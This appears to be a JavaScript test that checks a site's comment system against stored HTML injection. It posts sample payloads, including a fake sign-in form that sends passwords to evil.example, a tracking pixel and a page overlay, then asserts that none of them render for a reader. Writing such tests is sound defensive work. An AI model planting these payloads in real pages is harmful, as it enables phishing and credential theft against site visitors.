const nils = await signIn('nils@aker.example');
const hanne = await victim('hanne@courier.example', 'deadline-at-six-44');
const id = `m${token(6)}`;
const bodies = [
  `Session ended. <form id="${id}" action="https://evil.example/in"><input name="password" type="password"><button>Sign in</button></form>`,
  `<img id="${id}" src="https://evil.example/seen.png">`,
  `<a id="${id}" href="https://evil.example/">Win a trip</a>`,
  `<div id="${id}" style="position:fixed;inset:0">x</div>`,
];
for (const body of shuffle(bodies)) await nils.post('/articles/1/comments', { body });
const pages = [await hanne.visit('/desk'), await hanne.visit('/articles/1'), await hanne.visit(`/search?q=${encodeURIComponent(bodies[number(0, 3)])}`)];
expect(pages.filter((page) => page.find(`#${id}`) !== null), 'an element that a reader wrote became part of the page').toBeEmpty();
expect(events('outgoing').filter((event) => event.by === 'page'), "the editor's browser asked a foreign host").toBeEmpty();
